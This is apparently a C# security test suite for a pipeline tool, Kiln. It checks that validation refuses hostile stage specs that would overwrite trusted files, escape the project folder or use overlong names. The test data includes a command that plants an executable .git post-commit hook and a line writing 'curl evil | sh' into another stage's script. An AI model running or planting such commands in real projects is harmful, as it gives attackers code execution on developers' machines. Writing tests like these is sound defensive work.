using Kiln.Core.Ledger;

namespace Kiln.SecurityTests;

/// <summary>A hostile kiln.yaml whose outputs would replace what the host trusts, or whose names would break Kiln's
/// paths: 'kiln validate' (and so 'kiln run') refuse it with file:line:column and exit code 2, before anything runs.</summary>
[Collection(DockerCollection.Name)]
public sealed class ValidateAttackTests(DockerFixture docker)
{
    private static async Task<Cli.Result> ValidateRefusesAsync(TempProject project, string position, params string[] fragments)
    {
        var result = await Cli.KilnAsync(project.Dir, "validate");
        Assert.True(result.ExitCode == 2, result.Describe());
        Assert.Contains(position, result.Text);
        foreach (var f in fragments) Assert.Contains(f, result.Text);
        Assert.Contains("hint:", result.Text);
        return result;
    }

    [DockerFact]
    public async Task OutputNamingKilnYamlIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.WithStages("""
              evil:
                env: base
                run: echo replaced > kiln.yaml
                outs: [kiln.yaml]
            """);
        var spec = project.Read("kiln.yaml");

        await ValidateRefusesAsync(project, "kiln.yaml:8:12", "output 'kiln.yaml' of stage 'evil' would overwrite the spec file");

        var run = await Cli.KilnAsync(project.Dir, "run", "--quiet");
        Assert.True(run.ExitCode == 2, run.Describe());
        Assert.Equal(spec, project.Read("kiln.yaml"));
    }

    [DockerFact]
    public async Task OutputUnderGitHooksIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.WithStages("""
              evil:
                env: base
                run: printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit
                outs: [.git/hooks/post-commit]
            """);
        Directory.CreateDirectory(project.FullPath(".git/hooks"));

        await ValidateRefusesAsync(project, "kiln.yaml:8:12", "'.git/hooks/post-commit'", "inside a .git folder");
        Assert.False(project.Exists(".git/hooks/post-commit"));
    }

    [DockerFact]
    public async Task OutputNamingKilnLockIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.WithStages("""
              evil:
                env: base
                run: echo > kiln.lock
                outs: [kiln.lock]
            """);

        await ValidateRefusesAsync(project, "kiln.yaml:8:12", "would overwrite the lock file");
    }

    [DockerFact]
    public async Task OutputNamingTheParamsFileIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.Create($"""
            name: {TempProject.ProjectName}
            {TempProject.PlainEnvironments}params: params.yaml
            stages:
              evil:
                env: base
                run: echo replaced > params.yaml
                outs: [params.yaml]
            """, ("params.yaml", "n: 1\n"));

        await ValidateRefusesAsync(project, "kiln.yaml:9:12", "would overwrite the params file");
    }

    [DockerFact]
    public async Task OutputOverwritingAnotherStagesCodeIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.WithStages("""
              train:
                env: base
                run: sh src/train.sh
                code: [src/train.sh]
              evil:
                env: base
                run: echo 'curl evil | sh' > src/train.sh
                outs: [src/train.sh]
            """, ("src/train.sh", "echo training\n"));

        await ValidateRefusesAsync(project, "kiln.yaml:12:12", "would overwrite code of stage 'train'");
    }

    [DockerFact]
    public async Task OutputEscapingTheProjectWithDotDotIsRefusedAtValidate()
    {
        _ = docker;
        using var project = TempProject.WithStages("""
              evil:
                env: base
                run: echo x
                outs: [../outside.txt]
            """);

        await ValidateRefusesAsync(project, "kiln.yaml:8:12", "leaves the project folder");
    }

    [DockerFact]
    public async Task OverlongStageNameIsRefusedAtValidate()
    {
        _ = docker;
        var name = new string('s', 5000);
        using var project = TempProject.WithStages($"""
              ? {name}
              : {"{"} env: base, run: echo hi > out/x.txt, outs: [out/x.txt] {"}"}
            """);

        await ValidateRefusesAsync(project, "kiln.yaml:5:5", "is 5000 characters long; names are at most 64");

        // The run is refused the same way (it used to fail after the build with a PathTooLongException).
        var run = await Cli.KilnAsync(project.Dir, "run", "--quiet");
        Assert.True(run.ExitCode == 2, run.Describe());
        Assert.DoesNotContain("PathTooLongException", run.Text);
    }

    [DockerFact]
    public async Task OverlongEnvironmentNameIsRefusedAtValidate()
    {
        _ = docker;
        var env = new string('e', 200);
        using var project = TempProject.Create($"""
            name: {TempProject.ProjectName}
            environments:
              {env}: {"{"} distro: debian:bookworm {"}"}
            stages:
              a: {"{"} env: {env}, run: echo {"}"}
            """);

        await ValidateRefusesAsync(project, "kiln.yaml:3:3", "is 200 characters long");
    }
}
